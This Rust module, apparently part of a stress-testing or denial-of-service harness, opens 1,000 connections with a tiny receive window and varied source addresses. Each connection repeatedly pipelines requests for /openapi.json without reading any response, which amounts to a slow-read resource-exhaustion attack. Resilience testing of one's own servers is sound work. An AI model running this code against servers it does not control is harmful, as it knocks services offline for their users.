//! A client without credentials requests a long answer many times on each connection and reads none of it.

use std::convert::Infallible;
use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::runtime::Handle;

use crate::target::Target;
use crate::wire::{another_address, connect, request};

/// How many are held at once.
const HELD: usize = 1_000;

/// The client's own buffer, as small as it gets.
const WINDOW: u32 = 2_048;

/// How often to ask for more, which also shows whether the connection still stands.
const ASK_AGAIN: Duration = Duration::from_secs(1);

pub(super) fn begin(runtime: &Handle, target: &Arc<Target>) {
    for _ in 0..HELD {
        let target = Arc::clone(target);
        runtime.spawn(async move {
            loop {
                let Err(error) = hold(&target).await;
                target.tally.broke(error);
                tokio::time::sleep(ASK_AGAIN).await;
            }
        });
    }
}

async fn hold(target: &Target) -> io::Result<Infallible> {
    let mut stream = connect(target.server, another_address(), Some(WINDOW)).await?;
    let several = request(target.server, "GET", "/openapi.json", "", "").repeat(20);
    target.tally.held();
    loop {
        stream.write_all(several.as_bytes()).await?;
        tokio::time::sleep(ASK_AGAIN).await;
    }
}
